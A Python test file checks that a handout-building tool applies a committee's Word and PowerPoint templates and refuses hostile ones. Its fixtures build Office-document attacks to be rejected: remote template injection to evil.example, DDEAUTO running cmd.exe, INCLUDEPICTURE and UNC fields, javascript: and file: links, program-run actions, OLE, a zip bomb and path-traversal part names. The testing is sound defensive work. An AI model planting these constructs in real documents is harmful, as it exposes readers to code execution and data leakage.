"""A committee's own templates in data/local/: its letterhead, page set-up and styles carry every Word
handout, its layouts and slide size every deck; its example content is left out; a broken or
macro-carrying template stops the build with a message saying why."""

from __future__ import annotations

import io
import os
import re
import shutil
import time
import zipfile
from pathlib import Path

import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.shared import Cm
from pptx import Presentation
from pptx.util import Inches as SlideInches

from macros.outputs.cache import DownloadFailure, build_downloads, check_templates
from macros.outputs.downloads import plan_downloads
from macros.outputs.edition import edition_for
from tests.office import docx_styles, docx_text, package_xml, pdf_pages, pptx_slides, to_pdf

from .conftest import BUILT, SITE_URL

LETTERHEAD = "Riverside Child Protection Committee · letterhead"
ADDRESS = "Riverside CPC, 1 River Street, Riverside"
TEMPLATE_BODY = "Template body text that must not be kept"
TEMPLATE_SLIDE = "A slide of the template, not to be kept"


def word_template(path: Path) -> None:
    """A letterhead as a committee saves it: its own margins, header, footer and font, and few styles."""
    document = Document()
    section = document.sections[0]
    section.page_width, section.page_height = Cm(21.0), Cm(29.7)
    section.left_margin = section.right_margin = Cm(3.1)
    section.top_margin = Cm(3.5)
    section.header.paragraphs[0].text = LETTERHEAD
    section.footer.paragraphs[0].text = ADDRESS
    document.styles["Normal"].font.name = "Caladea"
    document.add_paragraph(TEMPLATE_BODY)
    styles = document.styles.element
    for style in styles.findall(qn("w:style")):  # Word saves only the styles a document uses
        if style.find(qn("w:name")).get(qn("w:val")) in ("heading 2", "List Bullet", "Table Grid"):
            styles.remove(style)
    document.save(str(path))


def slides_template(path: Path) -> None:
    deck = Presentation()
    deck.slide_width, deck.slide_height = SlideInches(10), SlideInches(5.625)
    deck.slide_layouts[0].name = "Riverside cover"
    deck.slide_layouts[1].name = "Riverside content"
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = TEMPLATE_SLIDE
    deck.save(str(path))


@pytest.fixture(scope="module")
def committee(project, fixture_source, tmp_path_factory):
    """The fixture portfolio's downloads, made with a committee's templates in its data/local/."""
    data = tmp_path_factory.mktemp("committee") / "data"
    shutil.copytree(fixture_source / "data", data)
    (data / "local").mkdir(exist_ok=True)
    word_template(data / "local" / "handout-template.docx")
    slides_template(data / "local" / "slides-template.pptx")
    edition = edition_for(project, BUILT, SITE_URL, data)
    written = build_downloads(project, edition, plan_downloads(project, edition), data.parent / "cache")
    return {download.path: path for download, path in written}


def test_the_letterhead_margins_and_font_carry_every_handout(committee):
    handouts = [path for name, path in committee.items() if name.endswith(".docx")]
    assert handouts
    for path in handouts:
        document = Document(str(path))
        section = document.sections[-1]
        assert section.header.paragraphs[0].text == LETTERHEAD
        assert section.footer.paragraphs[0].text == ADDRESS
        assert abs(section.left_margin - Cm(3.1)) < Cm(0.01) and abs(section.top_margin - Cm(3.5)) < Cm(0.01)
        assert document.styles["Normal"].font.name == "Caladea"
        assert TEMPLATE_BODY not in docx_text(path)
        fields = [instr for xml in package_xml(path).values() for instr in re.findall(r'w:instr="([^"]*)"', xml)]
        assert fields == [], "the committee's footer is kept as it is: no page number of ours"


def handout_of(case) -> str:
    return f"downloads/case-study-{case.number:02d}-{case.id}.docx"


def test_styles_the_template_lacks_are_added_as_words_built_in_ones(project, committee):
    path = committee[handout_of(project.data.case_studies[0])]
    styles = dict((text, name) for name, text in docx_styles(path))
    assert styles["Something to think about"] == "Heading 2"
    heading = Document(str(path)).styles["Heading 2"]
    assert heading.element.get(qn("w:styleId")) and heading.type == 1
    grid = Document(str(committee["downloads/ready-reckoner.docx"])).tables[0]
    assert grid.style.name == "Table Grid"


def test_decks_use_the_templates_layouts_and_size_and_drop_its_slides(committee):
    decks = [path for name, path in committee.items() if name.endswith(".pptx")]
    assert decks
    for path in decks:
        deck = Presentation(str(path))
        assert (deck.slide_width, deck.slide_height) == (SlideInches(10), SlideInches(5.625))
        slides = pptx_slides(path)
        assert slides[0]["layout"] == "Riverside cover"
        assert "Riverside content" in {slide["layout"] for slide in slides}
        assert TEMPLATE_SLIDE not in {slide["title"] for slide in slides}
        assert sum(1 for name in package_xml(path) if name.startswith("ppt/slides/slide")) == len(slides)


def test_printed_with_the_letterhead_the_reckoner_still_fits_one_page(project, committee, tmp_path):
    longest = max(project.data.case_studies, key=lambda case: len(case.narrative) + sum(map(len, case.questions)))
    files = [committee["downloads/ready-reckoner.docx"], committee[handout_of(longest)]]
    pdfs = to_pdf(files, tmp_path)
    reckoner = pdf_pages(pdfs[files[0]])
    assert len(reckoner) == 1 and LETTERHEAD in reckoner[0]
    assert len(pdf_pages(pdfs[files[1]])) <= 2


def test_a_word_template_file_works_too(project, tmp_path):
    """Saved from Word as a template (.dotx): the same package, typed as a template."""
    data = tmp_path / "data"
    (data / "local").mkdir(parents=True)
    word_template(tmp_path / "plain.docx")
    with zipfile.ZipFile(tmp_path / "plain.docx") as source, zipfile.ZipFile(data / "local" / "handout-template.dotx", "w") as target:
        for name in source.namelist():
            content = source.read(name)
            if name == "[Content_Types].xml":
                content = content.replace(b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
            target.writestr(name, content)
    edition = edition_for(project, BUILT, None, data)
    assert edition.handout_template.name == "handout-template.dotx"
    check_templates(edition, tmp_path)
    reckoner = [d for d in plan_downloads(project, edition) if d.kind == "ready_reckoner"]
    [(_, path)] = build_downloads(project, edition, reckoner, tmp_path / "cache")
    assert Document(str(path)).sections[-1].header.paragraphs[0].text == LETTERHEAD


@pytest.mark.parametrize("name,content,reason", [
    ("handout-template.docx", b"not a Word document", "it cannot be opened as a package of that kind; open it and save it as a Word Document (.docx)"),
    ("slides-template.pptx", b"PK\x03\x04 broken", "it cannot be opened as a package of that kind; open it and save it as a PowerPoint Presentation (.pptx)"),
    ("handout-template.docx", "macros", "it holds macros; save it as a Word Document (.docx), which cannot"),
    # Template injection: Word fetches an attached template named by address when the handout opens.
    ("handout-template.docx", "remote template", "it loads 'https://tracker.example/t.dotm' from outside the file when opened; "
     "save a copy without linked pictures or templates (Word: File, Info, Edit Links to Files, Break Link)"),
])
def test_a_template_that_cannot_be_used_is_named_with_the_reason(project, tmp_path, name, content, reason):
    local = tmp_path / "data" / "local"
    local.mkdir(parents=True)
    if content == "macros":
        word_template(tmp_path / "plain.docx")
        shutil.copy(tmp_path / "plain.docx", local / name)
        with zipfile.ZipFile(local / name, "a") as archive:
            archive.writestr("word/vbaProject.bin", b"\x00macro")
    elif content == "remote template":
        word_template(tmp_path / "plain.docx")
        shutil.copy(tmp_path / "plain.docx", local / name)
        with zipfile.ZipFile(local / name, "a") as archive:
            archive.writestr("word/_rels/settings.xml.rels", b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                             b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                             b'Target="https://tracker.example/t.dotm" TargetMode="External"/></Relationships>')
    else:
        (local / name).write_bytes(content)
    edition = edition_for(project, BUILT, None, tmp_path / "data")
    with pytest.raises(DownloadFailure) as failure:
        check_templates(edition, tmp_path)
    assert str(failure.value) == f"data/local/{name}: this template cannot be used: {reason}"


def test_validate_opens_the_templates_as_the_build_would(fixture_source, tmp_path, capsys, monkeypatch):
    from macros.commands import validate

    project = tmp_path / "project"
    shutil.copytree(fixture_source / "data", project / "data")
    shutil.copytree(fixture_source / "content", project / "content")
    (project / "data" / "local").mkdir(exist_ok=True)
    (project / "data" / "local" / "slides-template.pptx").write_bytes(b"not a presentation")
    monkeypatch.chdir(project)
    assert validate.main(["data"]) == 1
    assert capsys.readouterr().err.strip() == (
        "data/local/slides-template.pptx: this template cannot be used: it cannot be opened as a package of that kind; "
        "open it and save it as a PowerPoint Presentation (.pptx)")
    (project / "data" / "local" / "slides-template.pptx").unlink()
    slides_template(project / "data" / "local" / "slides-template.pptx")
    assert validate.main(["data"]) == 0


def test_a_layout_named_as_expected_but_lacking_its_placeholders_is_passed_over(project, tmp_path):
    """A committee's "Title Slide" with its title deleted: the deck takes a layout that has one."""
    data = tmp_path / "data"
    (data / "local").mkdir(parents=True)
    deck = Presentation()
    cover = deck.slide_layouts[0]
    for shape in list(cover.placeholders):
        if shape.placeholder_format.type is not None and "TITLE" in str(shape.placeholder_format.type):
            shape._element.getparent().remove(shape._element)
    deck.save(str(data / "local" / "slides-template.pptx"))
    edition = edition_for(project, BUILT, None, data)
    check_templates(edition, tmp_path)
    planned = [d for d in plan_downloads(project, edition) if d.format == "pptx"]
    for download, path in build_downloads(project, edition, planned, tmp_path / "cache"):
        slides = pptx_slides(path)
        assert slides[0]["title"] == download.entry.title and slides[0]["layout"] != "Title Slide"
        assert all(slide["title"] for slide in slides)


# ---- hostile templates: what Word or PowerPoint would fetch, run or open with every download ---------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HYPERLINK_TYPE, IMAGE_TYPE = f"{REL}/hyperlink", f"{REL}/image"
RELATIONSHIPS = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
LINKED_PICTURE = (  # a picture in the header whose bytes Word fetches from the relationship's address
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="95250" cy="95250"/>'
    '<wp:docPr id="99" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="99" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdEvil"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="95250" cy="95250"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
    '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
CLICK = '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>Click</w:t></w:r></w:hyperlink></w:p>'
FETCHED = "from outside the file when opened; save a copy without linked pictures or templates (Word: File, Info, Edit Links to Files, Break Link)"
NOT_A_LINK = "it has a link that downloads may not carry: "
FIELD = ", which can fetch or run something when the document opens or its fields update; a template may use only fields such as PAGE, NUMPAGES and DATE: delete that field (Word: Alt+F9 shows fields)"
OPENED = ", which would be opened with every download; delete it from the template and save it again"


def saved(document) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def letterhead() -> bytes:
    document = Document()
    document.sections[0].header.paragraphs[0].text = LETTERHEAD
    return saved(document)


def rewritten(raw: bytes, edits: dict | None = None, add: dict | None = None) -> bytes:
    """The package with some parts changed (`edits`: name -> function of its bytes) and others added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            data = source.read(name)
            target.writestr(name, (edits or {}).get(name, lambda d: d)(data))
        for name, data in (add or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def with_relationship(raw: bytes, part: str, relationship: str, body: str = "", closing: str = "") -> bytes:
    """`relationship` added to `part`'s relationships (made when it has none), and `body` before `part`'s `closing` tag."""
    rels = f"{part.rpartition('/')[0]}/_rels/{part.rpartition('/')[2]}.rels"
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        names = archive.namelist()
    edits = {part: lambda d: d.replace(closing.encode(), body.encode() + closing.encode(), 1)} if body else {}
    if rels in names:
        edits[rels] = lambda d: d.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")
        return rewritten(raw, edits)
    return rewritten(raw, edits, {rels: RELATIONSHIPS.format(relationship).encode()})


def in_header(relationship: str, body: str) -> bytes:
    return with_relationship(letterhead(), "word/header1.xml", relationship, body, "</w:hdr>")


def header_field(instruction_runs: list[str]) -> bytes:
    """A complex field in the header, its instruction written over one run or several (as Word may split it)."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instruction_runs)
    field = (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
             '<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return rewritten(letterhead(), {"word/header1.xml": lambda d: d.replace(b"</w:hdr>", field.encode() + b"</w:hdr>")})


def in_settings(relationship: str, element: str) -> bytes:
    return with_relationship(letterhead(), "word/settings.xml", relationship, element, "</w:settings>")


def retyped(raw: bytes, old: bytes, new: bytes) -> bytes:
    return rewritten(raw, {"[Content_Types].xml": lambda d: d.replace(old, new)})


def zip_bomb() -> bytes:
    """Under 100 KB on disk, 60 MB unpacked: the letterhead and zeros, in a part nothing refers to."""
    out = io.BytesIO(letterhead())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        left = 60 * 1024 * 1024 - sum(info.file_size for info in archive.infolist())
        with archive.open("word/media/zeros.bin", "w") as part:
            while left > 0:
                part.write(bytes(min(left, 1 << 20)))
                left -= 1 << 20
    assert len(out.getvalue()) < 100 * 1024
    return out.getvalue()


def with_parts(*names: str) -> bytes:
    return rewritten(letterhead(), add={name: b"pwned" for name in names})


def deck_master(relationship: str, shape: str) -> bytes:
    return with_relationship(saved(Presentation()), "ppt/slideMasters/slideMaster1.xml", relationship, shape, "</p:spTree>")


SHAPE = ('<p:sp><p:nvSpPr><p:cNvPr id="999" name="button">{}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="0" y="0"/>'
         '<a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
         '<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="en-GB"/><a:t>Click</a:t></a:r></a:p></p:txBody></p:sp>')
MASTER_PICTURE = ('<p:pic><p:nvPicPr><p:cNvPr id="998" name="logo"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="rIdEvil"/>'
                  '<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
                  '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')

HOSTILE = {  # what the template is: (its name in data/local/, how it is made, the reason given)
    # Linked pictures and templates, however the relationship is written: Word fetches them when the handout opens.
    "linked picture, single quotes": ("handout-template.docx", lambda: in_header(
        f"<Relationship Id='rIdEvil' Type='{IMAGE_TYPE}' Target='https://evil.example/x.png' TargetMode='External'/>", LINKED_PICTURE),
        f"it loads 'https://evil.example/x.png' {FETCHED}"),
    "linked picture, spaces around =": ("handout-template.docx", lambda: in_header(
        f'<Relationship Id="rIdEvil" Type="{IMAGE_TYPE}" Target="https://evil.example/x.png" TargetMode = "External"/>', LINKED_PICTURE),
        f"it loads 'https://evil.example/x.png' {FETCHED}"),
    "linked picture named like a hyperlink": ("handout-template.docx", lambda: in_header(
        f'<Relationship Id="rIdEvil" Type="{IMAGE_TYPE}" Target="https://evil.example/x.png#/hyperlink" TargetMode="External"/>', LINKED_PICTURE),
        f"it loads 'https://evil.example/x.png#/hyperlink' {FETCHED}"),
    "linked picture, TargetMode in lower case": ("handout-template.docx", lambda: in_header(
        f'<Relationship Id="rIdEvil" Type="{IMAGE_TYPE}" Target="https://evil.example/x.png" TargetMode="external"/>', LINKED_PICTURE),
        f"it loads 'https://evil.example/x.png' {FETCHED}"),
    "linked picture, no TargetMode": ("handout-template.docx", lambda: in_header(
        f'<Relationship Id="rIdEvil" Type="{IMAGE_TYPE}" Target="https://evil.example/x.png"/>', LINKED_PICTURE),
        f"it loads 'https://evil.example/x.png' {FETCHED}"),
    "remote macro template, single quotes": ("handout-template.docx", lambda: in_settings(
        f"<Relationship Id='rIdT' Type='{REL}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>",
        "<w:attachedTemplate r:id='rIdT'/>"), f"it loads 'https://evil.example/t.dotm' {FETCHED}"),
    # Links: to what a page could link to, and nothing else.
    "javascript: link in the header": ("handout-template.docx", lambda: in_header(
        f'<Relationship Id="rIdLink" Type="{HYPERLINK_TYPE}" Target="javascript:alert(1)" TargetMode="External"/>', CLICK),
        NOT_A_LINK + "the address 'javascript:alert(1)' uses 'javascript:', which a page may not link to; use http, https, mailto or tel"),
    "file: link in the header": ("handout-template.docx", lambda: in_header(
        f'<Relationship Id="rIdLink" Type="{HYPERLINK_TYPE}" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>', CLICK),
        NOT_A_LINK + "the address 'file:///C:/Windows/System32/calc.exe' uses 'file:', which a page may not link to; use http, https, mailto or tel"),
    "link to a file beside the download": ("handout-template.docx", lambda: in_header(
        f'<Relationship Id="rIdLink" Type="{HYPERLINK_TYPE}" Target="setup.exe" TargetMode="External"/>', CLICK),
        NOT_A_LINK + "'setup.exe' is not a web, mail or telephone address (it would open a file beside the download); link to a full https:// address"),
    "mail link copying someone in": ("handout-template.docx", lambda: in_header(
        f'<Relationship Id="rIdLink" Type="{HYPERLINK_TYPE}" Target="mailto:cpc@riverside.example?bcc=x@evil.example" TargetMode="External"/>', CLICK),
        NOT_A_LINK + "the mail address 'mailto:cpc@riverside.example?bcc=x@evil.example' carries extra fields after '?' (such as cc or bcc); give the address alone"),
    # Fields that fetch or run something when the document opens or its fields update.
    "INCLUDEPICTURE field": ("handout-template.docx", lambda: header_field([' INCLUDEPICTURE "https://evil.example/x.png" \\d ']),
                             f"it holds the field INCLUDEPICTURE{FIELD}"),
    "INCLUDETEXT field over two runs": ("handout-template.docx", lambda: header_field([" INCLUDE", 'TEXT "\\\\\\\\evil.example\\\\share\\\\x.docx" ']),
                                        f"it holds the field INCLUDETEXT{FIELD}"),
    "DDEAUTO field, lower case": ("handout-template.docx", lambda: header_field([' ddeauto c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" ']),
                                  f"it holds the field DDEAUTO{FIELD}"),
    "LINK field as a simple field": ("handout-template.docx", lambda: rewritten(letterhead(), {"word/header1.xml": lambda d: d.replace(
        b"</w:hdr>", b'<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.8 &quot;\\\\\\\\evil\\\\x.xls&quot; Sheet1 \\a "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:hdr>')}),
        f"it holds the field LINK{FIELD}"),
    "field named by another field (the title, set to INCLUDEPICTURE)": ("handout-template.docx", lambda: rewritten(letterhead(), {"word/header1.xml": lambda d: d.replace(b"</w:hdr>", (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> TITLE </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> "https://evil.example/x.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        b"</w:hdr>"))}), "it holds a field whose name another field makes" + FIELD),
    "HYPERLINK field to javascript:": ("handout-template.docx", lambda: header_field([' HYPERLINK "javascript:alert(1)" \\o "Our site" ']),
                                       NOT_A_LINK + "the address 'javascript:alert(1)' uses 'javascript:', which a page may not link to; use http, https, mailto or tel"),
    # What Word or PowerPoint opens with the file.
    "imported document (altChunk)": ("handout-template.docx", lambda: with_relationship(
        rewritten(letterhead(), add={"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html><body>hello</body></html>"}),
        "word/document.xml", f'<Relationship Id="rIdChunk" Type="{REL}/aFChunk" Target="afchunk.mht"/>', '<w:altChunk r:id="rIdChunk"/>', "<w:sectPr"),
        f"it holds a document imported into it whole (altChunk){OPENED}"),
    "embedded object": ("handout-template.docx", lambda: with_relationship(
        rewritten(letterhead(), add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
        "word/header1.xml", f'<Relationship Id="rIdOle" Type="{REL}/oleObject" Target="../embeddings/oleObject1.bin"/>'),
        f"it holds an embedded or linked object (OLE){OPENED}"),
    "mail merge document": ("handout-template.docx", lambda: rewritten(letterhead(), {"word/settings.xml": lambda d: d.replace(
        b"</w:settings>", b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
        b'<w:query w:val="SELECT * FROM x"/></w:mailMerge></w:settings>')}),
        "it is a mail merge document, which Word would connect to its data source when it opens; "
        "make it a normal document (Word: Mailings, Start Mail Merge, Normal Word Document) and save it again"),
    "macro-enabled document under a .docx name": ("handout-template.docx", lambda: retyped(
        letterhead(), b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", b"application/vnd.ms-word.document.macroEnabled.main+xml"),
        "it is a macro-enabled document (.docm) saved under a .docx name; save it as a Word Document (.docx)"),
    "macro-enabled template under a .dotx name": ("handout-template.dotx", lambda: retyped(
        letterhead(), b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        "it is a macro-enabled template (.dotm) saved under a .dotx name; save it as a Word Document (.docx)"),
    "presentation under a .docx name": ("handout-template.docx", lambda: saved(Presentation()),
                                        "it cannot be opened as a package of that kind; open it and save it as a Word Document (.docx)"),
    "a document type declared in a part": ("handout-template.docx", lambda: rewritten(letterhead(), {"word/header1.xml": lambda d: d.replace(
        b"?>", b'?><!DOCTYPE w:hdr [<!ENTITY a "aaaaaaaaaa">]>', 1)}),
        "its part 'word/header1.xml' declares a document type (<!DOCTYPE>), which Word and PowerPoint never write; "
        "open it and save it again as a Word Document (.docx)"),
    # Sizes and names, from the package's directory, before anything is unpacked.
    "zip bomb": ("handout-template.docx", zip_bomb,
                 "it unpacks to 60 MB, more than a template may (50 MB); remove large pictures, videos or embedded files and save it again"),
    "too large a file": ("handout-template.docx", lambda: bytes(11 * 1024 * 1024),
                         "it is 11.0 MB; a template may be at most 10 MB: make its pictures smaller (Picture Format, Compress Pictures) and save it again"),
    "part named outside the package": ("handout-template.docx", lambda: with_parts("../../evil.txt"),
                                       "it holds a part named '../../evil.txt', which points outside the file; open it and save it again as a Word Document (.docx)"),
    "part named from the root": ("handout-template.docx", lambda: with_parts("/tmp/evil.txt"),
                                 "it holds a part named '/tmp/evil.txt', which points outside the file; open it and save it again as a Word Document (.docx)"),
    "part named outside with backslashes": ("handout-template.docx", lambda: with_parts("word\\..\\..\\evil.txt"),
                                            "it holds a part named 'word\\\\..\\\\..\\\\evil.txt', which points outside the file; "
                                            "open it and save it again as a Word Document (.docx)"),
    # PowerPoint: the slide master is in every deck.
    "picture linked in the slide master, single quotes": ("slides-template.pptx", lambda: deck_master(
        f"<Relationship Id='rIdEvil' Type='{IMAGE_TYPE}' Target='https://evil.example/x.png' TargetMode='External'/>", MASTER_PICTURE),
        "it loads 'https://evil.example/x.png' from outside the file when opened; save a copy without linked pictures or templates "
        "(PowerPoint: File, Info, Edit Links to Files, Break Link)"),
    "javascript: link in the slide master": ("slides-template.pptx", lambda: deck_master(
        f'<Relationship Id="rIdJs" Type="{HYPERLINK_TYPE}" Target="javascript:alert(1)" TargetMode="External"/>', SHAPE.format('<a:hlinkClick r:id="rIdJs"/>')),
        NOT_A_LINK + "the address 'javascript:alert(1)' uses 'javascript:', which a page may not link to; use http, https, mailto or tel"),
    "button that runs a program": ("slides-template.pptx", lambda: deck_master(
        f'<Relationship Id="rIdRun" Type="{HYPERLINK_TYPE}" Target="https://riverside.example/" TargetMode="External"/>',
        SHAPE.format('<a:hlinkClick r:id="rIdRun" action="ppaction://program"/>')),
        "it has an action that runs something when clicked ('ppaction://program'); remove that action (PowerPoint: select the shape, Insert, Action, None) and save it again"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_template_is_refused_with_the_reason_before_anything_is_made(project, tmp_path, case):
    name, make, reason = HOSTILE[case]
    local = tmp_path / "data" / "local"
    local.mkdir(parents=True)
    (local / name).write_bytes(make())
    edition = edition_for(project, BUILT, None, tmp_path / "data")
    started = time.perf_counter()
    with pytest.raises(DownloadFailure) as failure:
        check_templates(edition, tmp_path)
    assert str(failure.value) == f"data/local/{name}: this template cannot be used: {reason}"
    assert time.perf_counter() - started < 1.0, "refused from the package's directory, before anything large is unpacked"


def test_a_template_name_that_is_not_a_file_is_reported_not_passed_over(project, tmp_path):
    local = tmp_path / "data" / "local"
    local.mkdir(parents=True)
    word_template(tmp_path / "letterhead.docx")
    cases = {
        "folder": (lambda path: path.mkdir(), "it is a folder, not a file; move the folder away and save the template here as a Word Document (.docx)"),
        "link": (lambda path: path.symlink_to(tmp_path / "letterhead.docx"),
                 "it is a link to another file; put a copy of the template itself here, saved as a Word Document (.docx)"),
        "broken link": (lambda path: path.symlink_to(tmp_path / "gone.docx"),
                        "it is a link to another file; put a copy of the template itself here, saved as a Word Document (.docx)"),
        "pipe": (lambda path: os.mkfifo(path), "it is not an ordinary file; save the template here as a Word Document (.docx)"),
    }
    for case, (make, reason) in cases.items():
        path = local / "handout-template.docx"
        make(path)
        edition = edition_for(project, BUILT, None, tmp_path / "data")
        assert edition.handout_template == path, case
        with pytest.raises(DownloadFailure) as failure:
            check_templates(edition, tmp_path)
        assert str(failure.value) == f"data/local/handout-template.docx: this template cannot be used: {reason}", case
        shutil.rmtree(path) if case == "folder" else path.unlink()


def test_a_letterhead_with_a_web_link_and_page_numbers_is_kept_and_its_handouts_open(project, tmp_path):
    """What committees' letterheads hold: a link to their site and a page number, in a header Word saved
    with its attributes in single quotes: accepted, and carried into the handouts."""
    page_number = ('<w:p><w:r><w:t xml:space="preserve">Page </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                   '<w:r><w:instrText xml:space="preserve"> PAGE \\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                   '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t xml:space="preserve"> of </w:t></w:r>'
                   '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>2</w:t></w:r></w:fldSimple></w:p>')
    site_link = f"<Relationship Id='rIdLink' Type='{HYPERLINK_TYPE}' Target='https://riverside.example/cpc/' TargetMode='External'/>"
    data = tmp_path / "data"
    (data / "local").mkdir(parents=True)
    (data / "local" / "handout-template.docx").write_bytes(in_header(site_link, CLICK + page_number))
    edition = edition_for(project, BUILT, None, data)
    check_templates(edition, tmp_path)
    reckoner = [d for d in plan_downloads(project, edition) if d.kind == "ready_reckoner"]
    [(_, path)] = build_downloads(project, edition, reckoner, tmp_path / "cache")
    header = Document(str(path)).sections[-1].header
    assert header.paragraphs[0].text == LETTERHEAD
    assert [rel.target_ref for rel in header.part.rels.values() if rel.is_external] == ["https://riverside.example/cpc/"]
    instructions = [text.strip() for xml in package_xml(path).values() for text in re.findall(r"<w:instrText[^>]*>([^<]*)<", xml)]
    assert "PAGE \\* MERGEFORMAT" in instructions
